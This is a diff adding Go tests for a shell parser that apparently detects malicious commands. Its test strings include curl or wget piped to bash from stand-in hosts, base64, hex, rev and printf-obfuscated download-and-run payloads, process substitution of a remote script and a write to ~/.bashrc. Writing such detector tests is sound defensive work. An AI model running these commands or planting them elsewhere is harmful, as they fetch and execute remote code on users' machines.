@@ -1,0 +1,169 @@
+package shell
+
+import (
+	"errors"
+	"strings"
+	"testing"
+)
+
+func names(s *Script) string {
+	var out []string
+	for _, c := range s.Commands {
+		if c.Name != "" {
+			out = append(out, c.Name)
+		}
+	}
+	return strings.Join(out, ",")
+}
+
+func find(s *Script, name string) *Command {
+	for _, c := range s.Commands {
+		if c.Name == name {
+			return c
+		}
+	}
+	return nil
+}
+
+func TestPipeAndWrappers(t *testing.T) {
+	src := "curl -fsSL http://1.2.3.4/x | sudo -u root bash -s\n"
+	s := Parse(src, 100)
+	if s.Err != nil {
+		t.Fatal(s.Err)
+	}
+	curl, bash := find(s, "curl"), find(s, "bash")
+	if curl == nil || bash == nil {
+		t.Fatalf("commands: %s", names(s))
+	}
+	if s.Commands[curl.PipeNext] != bash || s.Commands[bash.PipePrev] != curl {
+		t.Errorf("pipe not linked")
+	}
+	if !bash.Sudo || bash.Start != 100+strings.Index(src, "sudo") {
+		t.Errorf("bash: sudo=%v start=%d", bash.Sudo, bash.Start)
+	}
+	if curl.Argv[2].Start != 100+strings.Index(src, "http") {
+		t.Errorf("word offset %d", curl.Argv[2].Start)
+	}
+}
+
+func TestDashCAndVars(t *testing.T) {
+	src := `U="http://evil.example/p"; bash -c 'wget -qO- '"$U"' | sh'`
+	s := Parse(src, 0)
+	w := find(s, "wget")
+	if w == nil || w.Via != ViaDashC || w.Depth != 1 {
+		t.Fatalf("wget via -c not found: %s", names(s))
+	}
+	if w.Arg(2) != "http://evil.example/p" {
+		t.Errorf("var not resolved: %q", w.Arg(2))
+	}
+}
+
+func TestBase64Layered(t *testing.T) {
+	// decodes to: /bin/bash -c "$(curl -fsSL http://91.92.242.30/abc)"
+	src := `echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzkxLjkyLjI0Mi4zMC9hYmMpIg==' | base64 -D | bash`
+	s := Parse(src, 7)
+	d := find(s, "base64")
+	if d == nil || !strings.Contains(d.Decoded, "curl -fsSL http://91.92.242.30/abc") {
+		t.Fatalf("not decoded: %+v", d)
+	}
+	c := find(s, "curl")
+	if c == nil || c.Depth != 1 || c.Via != ViaSubst {
+		t.Fatalf("curl in decoded payload not found: %s", names(s))
+	}
+	if c.Start != 7 {
+		t.Errorf("decoded command maps to %d, want the pipeline start", c.Start)
+	}
+	// the -c argument (a substitution) came from decoded text two levels deep
+	var bash []*Command
+	for _, x := range s.Commands {
+		if x.Name == "bash" {
+			bash = append(bash, x)
+		}
+	}
+	if len(bash) != 2 || bash[1].Via != ViaStdin {
+		t.Errorf("inner bash not found")
+	}
+}
+
+func TestSubstOutputAndEval(t *testing.T) {
+	s := Parse(`eval "$(echo Y3VybCBodHRwOi8veC5leGFtcGxlL3MgfCBzaA== | base64 --decode)"`, 0)
+	c := find(s, "sh")
+	if c == nil || c.Via != ViaEval {
+		t.Fatalf("eval payload not parsed: %s", names(s))
+	}
+	s = Parse(`echo 'hs | 1/4.3.2.1//:ptth lruc' | rev | bash`, 0)
+	if c := find(s, "curl"); c == nil || c.Via != ViaStdin {
+		t.Fatalf("rev payload not parsed: %s", names(s))
+	}
+	s = Parse(`printf '\x63\x75\x72\x6c x | sh' | bash`, 0)
+	if c := find(s, "curl"); c == nil {
+		t.Fatalf("printf payload not parsed: %s", names(s))
+	}
+	s = Parse("xxd -r -p <<< 6375726c2078207c207368 | sh", 0)
+	if c := find(s, "curl"); c == nil {
+		t.Fatalf("hex payload not parsed: %s", names(s))
+	}
+}
+
+func TestObfuscatedWords(t *testing.T) {
+	s := Parse(`a=xcurlx; ${a:1:4} http://x | $'\x73\x68'`, 0)
+	c := find(s, "curl")
+	if c == nil || !c.Argv[0].Sliced {
+		t.Fatalf("slice not resolved: %s", names(s))
+	}
+	sh := find(s, "sh")
+	if sh == nil || !sh.Argv[0].Escaped {
+		t.Fatalf("ansi-c not resolved: %s", names(s))
+	}
+}
+
+func TestProcSubstAndRedirs(t *testing.T) {
+	s := Parse("source <(curl -s https://x.example/i)\necho 'x' >> ~/.bashrc\n", 0)
+	c := find(s, "curl")
+	if c == nil || c.Via != ViaProcSubst {
+		t.Fatalf("procsubst: %s", names(s))
+	}
+	e := find(s, "echo")
+	if len(e.Redirs) != 1 || e.Redirs[0].Op != ">>" || e.Redirs[0].Target.Value != "~/.bashrc" {
+		t.Fatalf("redir: %+v", e.Redirs)
+	}
+}
+
+func TestFallback(t *testing.T) {
+	src := "Run this:\ncurl http://x/a | bash\nthen (enjoy\n"
+	s := Parse(src, 0)
+	if s.Err == nil {
+		t.Fatal("want parse error")
+	}
+	c := find(s, "curl")
+	if c == nil || c.PipeNext < 0 || s.Commands[c.PipeNext].Name != "bash" {
+		t.Fatalf("fallback lost the pipe: %s", names(s))
+	}
+	if c.Start != strings.Index(src, "curl") {
+		t.Errorf("offset %d", c.Start)
+	}
+	if !s.Heuristic {
+		t.Errorf("heuristic not flagged")
+	}
+}
+
+func TestLimits(t *testing.T) {
+	deep := strings.Repeat("$(", 1000) + strings.Repeat(")", 1000)
+	if s := Parse(deep, 0); !errors.Is(s.Err, ErrLimit) {
+		t.Fatalf("deep nesting: %v", s.Err)
+	}
+	// self-replicating eval stays bounded
+	src := `x='eval "$x"'; eval "$x"`
+	s := Parse(src, 0)
+	if len(s.Commands) > 20 {
+		t.Errorf("%d commands", len(s.Commands))
+	}
+}
+
+func TestStripPrompts(t *testing.T) {
+	in := "$ curl x | sh\nhello output (\n$ ls\n"
+	out := StripPrompts(in)
+	if len(out) != len(in) || !strings.HasPrefix(out, "  curl") || strings.Contains(out, "hello") {
+		t.Fatalf("%q", out)
+	}
+}
